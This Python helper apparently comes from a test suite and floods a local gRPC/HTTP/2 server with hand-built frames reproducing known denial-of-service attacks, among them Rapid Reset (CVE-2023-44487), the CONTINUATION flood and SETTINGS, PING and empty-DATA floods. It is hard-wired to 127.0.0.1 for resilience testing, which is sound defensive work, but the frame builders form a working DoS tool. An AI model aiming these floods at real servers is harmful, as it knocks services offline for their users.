"""Floods of HTTP/2 frames, by hand: what no client library would send.

    python -m helpers.floods KIND PORT SECONDS

sends one kind to 127.0.0.1:PORT for so long, and prints what it did as JSON. It connects again
whenever it is thrown out, and never to another machine.
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
METHOD = b"/descent.v1.TrainingService/GetJob"
BATCH = 64


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: bytes) -> bytes:
    """A literal of HPACK (RFC 7541, 5.2), shorter than 127 bytes."""
    return bytes([len(value)]) + value


def field(name: bytes, value: bytes) -> bytes:
    """A header field without indexing."""
    return b"\0" + text(name) + text(value)


# :method POST and :scheme http are in HPACK's static table.
REQUEST = (
    b"\x83\x86"
    + field(b":path", METHOD)
    + field(b":authority", b"localhost")
    + field(b"te", b"trailers")
    + field(b"content-type", b"application/grpc")
)


class Connection:
    def __init__(self, port: int):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.stream = -1
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def next_stream(self) -> int:
        self.stream += 2
        return self.stream

    def drop_what_came(self) -> None:
        while select.select([self.socket], [], [], 0)[0]:
            if not self.socket.recv(1 << 16):
                raise ConnectionResetError


# Each gives the bytes of a batch, and how many of its kind are in it.


def rapid_reset(connection: Connection) -> tuple[bytes, int]:
    """Requests that are taken back as soon as they have begun (CVE-2023-44487)."""
    batch = []
    for _ in range(BATCH):
        stream = connection.next_stream()
        batch.append(frame(HEADERS, END_HEADERS, stream, REQUEST))
        batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    return b"".join(batch), BATCH


def reset_requests(connection: Connection) -> tuple[bytes, int]:
    """The same with whole requests, which are handed to the service before they are taken back."""
    batch = []
    for _ in range(BATCH):
        stream = connection.next_stream()
        batch.append(frame(HEADERS, END_HEADERS, stream, REQUEST))
        batch.append(frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"))
        batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    return b"".join(batch), BATCH


def continuation(connection: Connection) -> tuple[bytes, int]:
    """One block of headers that never ends (VU#421644)."""
    first = b""
    if connection.stream < 0:
        first = frame(HEADERS, 0, connection.next_stream(), REQUEST)
    more = frame(CONTINUATION, 0, connection.stream, field(b"x-a", b"y" * 100) * 100)
    return first + more * 8, 8


def settings(_connection: Connection) -> tuple[bytes, int]:
    """Settings, of which each is to be acknowledged (CVE-2019-9515)."""
    return frame(SETTINGS, 0, 0) * BATCH, BATCH


def ping(_connection: Connection) -> tuple[bytes, int]:
    """Pings, of which each is to be answered (CVE-2019-9512)."""
    return frame(PING, 0, 0, bytes(8)) * BATCH, BATCH


def empty_data(connection: Connection) -> tuple[bytes, int]:
    """Data that hold nothing (CVE-2019-9518)."""
    first = b""
    if connection.stream < 0:
        first = frame(HEADERS, END_HEADERS, connection.next_stream(), REQUEST)
    return first + frame(DATA, 0, connection.stream) * BATCH, BATCH


def half_messages(connection: Connection) -> tuple[bytes, int]:
    """Messages of which the end does not come: what has come must be kept."""
    stream = connection.next_stream()
    said = b"\0" + struct.pack(">I", 4 << 20)
    begun = frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(DATA, 0, stream, said)
    return begun + frame(DATA, 0, stream, bytes(16 << 10)) * 3, 1  # within the first window


KINDS = {
    kind.__name__: kind
    for kind in (
        rapid_reset,
        reset_requests,
        continuation,
        settings,
        ping,
        empty_data,
        half_messages,
    )
}


def flood(kind: str, port: int, seconds: float) -> dict:
    make = KINDS[kind]
    sent = connections = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            connection = Connection(port)
            connections += 1
            while time.monotonic() < deadline:
                batch, count = make(connection)
                connection.socket.sendall(batch)
                sent += count
                connection.drop_what_came()
        except OSError:
            continue  # thrown out, or it takes no more for now
    return {"sent": sent, "connections": connections, "cpu": time.process_time()}


if __name__ == "__main__":
    print(json.dumps(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
